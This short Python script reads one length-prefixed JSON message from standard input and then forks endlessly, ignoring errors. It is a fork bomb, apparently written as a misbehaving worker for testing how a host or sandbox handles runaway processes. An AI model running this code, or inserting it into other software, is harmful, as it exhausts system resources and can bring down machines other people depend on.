"""Forks without end."""

import contextlib
import json
import os
import struct
import sys


def question():
    (length,) = struct.unpack(">I", sys.stdin.buffer.read(4))
    return json.loads(sys.stdin.buffer.read(length))


question()
while True:
    with contextlib.suppress(OSError):
        os.fork()
